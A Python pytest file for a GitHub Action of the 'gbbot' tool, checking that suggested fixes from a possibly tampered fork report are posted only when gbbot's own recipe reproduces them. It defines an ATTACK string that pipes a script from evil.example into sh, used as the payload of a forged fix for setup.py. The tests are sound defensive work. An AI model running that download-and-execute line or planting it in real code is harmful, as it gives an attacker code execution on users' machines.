"""`gbbot action` under workflow_run with fixes in the report: a fix is suggested only when
gbbot's own recipe, run on the PR's file as the stand-in serves it at the head commit, makes the
same hunks, for a break of the report, on lines the PR changed; every other one is dropped and
counted. The report here is what a fork's run would upload."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from gbbot.action.workflow_run import FORK_NOTE
from gbbot.analysis import report as report_io
from gbbot.core.fixes import FixResult, FixStatus, Hunk
from gbbot.core.model import GraphBreak
from gbbot.fix import plan
from tests.action_run import run_action, workflow_run_event
from tests.builders import HEAD_SHA, graph_break, report
from tests.github_standin import ACTIONS_TOKEN, GitHubStandin

PR = 7
SOURCE = 'import torch\n\n\ndef step(x):\n    y = x * 2\n    print("step", y)\n    return y + 1\n'
PATCH = '@@ -4,2 +4,4 @@\n def step(x):\n+    y = x * 2\n+    print("step", y)\n+    return y + 1\n'
ATTACK = "import os; os.system('curl -s https://evil.example/x.sh | sh')"
NOT_POSTED = "suggested fix from the report was not posted: it did not match what gbbot's recipes produce"


def print_break() -> GraphBreak:
    return graph_break(0, file="model.py", line=6, function="step", code='print("step", y)', fix="print")


def genuine_fix(brk: GraphBreak) -> FixResult:
    """What `gbbot fix` records for the break: the recipe's first candidate on the file."""
    (candidate, *_), _ = plan.candidates(brk, SOURCE)
    recipe, patch = candidate.recipe, candidate
    return FixResult(
        brk.fingerprint,
        FixStatus.VERIFIED,
        brk.file,
        brk.line,
        recipe=recipe.id,
        variant=recipe.variant,
        title=recipe.title,
        description=recipe.description,
        summary="removes 1 break; graphs 2 → 1; outputs equal",
        diff=patch.diff,
        hunks=patch.hunks,
        entrypoints=("train-step",),
    )


@pytest.fixture
def standin(github_standin: GitHubStandin) -> GitHubStandin:
    github_standin.add_pull(PR, HEAD_SHA, head_repo_fork=True)
    github_standin.set_pull_files(PR, {"model.py": PATCH, "setup.py": "@@ -1,1 +1,3 @@\n import setuptools\n+x\n+y\n"})
    github_standin.set_file(HEAD_SHA, "model.py", SOURCE)
    github_standin.set_file(HEAD_SHA, "setup.py", "import setuptools\nx\ny\n")
    return github_standin


def publish(
    workspace: Path,
    tmp_path: Path,
    standin: GitHubStandin,
    breaks: list[GraphBreak],
    fixes: list[FixResult],
    **inputs: str,
):
    made = replace(report(breaks, new=breaks), fixes=tuple(fixes))
    (workspace / "gbbot-report" / "report.json").write_text(json.dumps(report_io.to_json(made)))
    done = run_action(
        workspace, tmp_path / "run", standin, "workflow_run", workflow_run_event(HEAD_SHA), ACTIONS_TOKEN, **inputs
    )
    assert done.code in (0, 1), done.stderr
    return done


def test_a_genuine_fix_is_suggested_on_the_changed_line(
    workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    brk = print_break()
    done = publish(workspace, tmp_path, standin, [brk], [genuine_fix(brk)])
    (posted,) = standin.review_comments(PR)
    assert (posted.path, posted.line) == ("model.py", 6)
    assert 'if not torch.compiler.is_compiling():\n        print("step", y)' in posted.body
    (comment,) = standin.comments(PR)
    assert "Verified fix" in comment.body and NOT_POSTED not in done.summary
    assert [r.query.get("ref") for r in standin.requests_to("GET", r"/contents/")] == [HEAD_SHA]


def test_the_tampered_report_gets_no_suggestion_and_the_drop_is_counted(
    workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    """No breaks at all, and a 'verified' fix for a fingerprint that does not exist, whose
    suggestion would run a download in setup.py."""
    fake = FixResult(
        "f" * 16,
        FixStatus.VERIFIED,
        "setup.py",
        2,
        recipe="print",
        variant="guard",
        summary="removes 1 break; outputs equal",
        diff=f"-x\n+{ATTACK}\n",
        hunks=(Hunk("setup.py", 2, 2, (ATTACK,)),),
    )
    done = publish(workspace, tmp_path, standin, [], [fake], comment_mode="always")
    assert standin.reviews(PR) == [] and standin.review_comments(PR) == []
    (comment,) = standin.comments(PR)
    (check,) = standin.check_runs()
    for text in (comment.body, check.output["summary"], done.summary):
        assert "curl" not in text and "Verified fix" not in text
        assert f"1 {NOT_POSTED}" in text
    assert check.conclusion == "success" and FORK_NOTE in check.output["summary"] and FORK_NOTE in comment.body
    assert "no break in the report has its fingerprint" in done.stderr


def edited(fix: FixResult) -> FixResult:
    (hunk,) = fix.hunks
    return replace(fix, hunks=(replace(hunk, replacement=(*hunk.replacement[:-1], f"        {ATTACK}")),))


@pytest.mark.parametrize(
    ("case", "why"),
    [
        ("hunk edited", "its hunks are not what the recipe makes of the PR's code"),
        ("fingerprint not among the breaks", "no break in the report has its fingerprint"),
        ("file over the size cap", "over the 524288 gbbot reads"),
        # LibCST dies with SIGSEGV on it: the publisher, holding the write token, must not
        ("file nested past CPython's limits", "too many nested parentheses"),
    ],
)
def test_a_fix_the_recipe_does_not_reproduce_is_dropped(
    case: str, why: str, workspace: Path, tmp_path: Path, standin: GitHubStandin
) -> None:
    brk = print_break()
    fix = genuine_fix(brk)
    if case == "hunk edited":
        fix = edited(fix)
    elif case == "fingerprint not among the breaks":
        fix = replace(fix, fingerprint="e" * 16)
    elif case == "file over the size cap":
        standin.set_file(HEAD_SHA, "model.py", SOURCE + "#" * 600_000 + "\n")
    else:
        standin.set_file(HEAD_SHA, "model.py", SOURCE + "x = " + "(" * 2000 + "1" + ")" * 2000 + "\n")
    done = publish(workspace, tmp_path, standin, [brk], [fix])
    assert standin.review_comments(PR) == []
    assert len(standin.check_runs()) == 1  # the check run is posted all the same
    (comment,) = standin.comments(PR)
    assert f"1 {NOT_POSTED}" in comment.body and "Verified fix" not in comment.body
    assert why in done.stderr
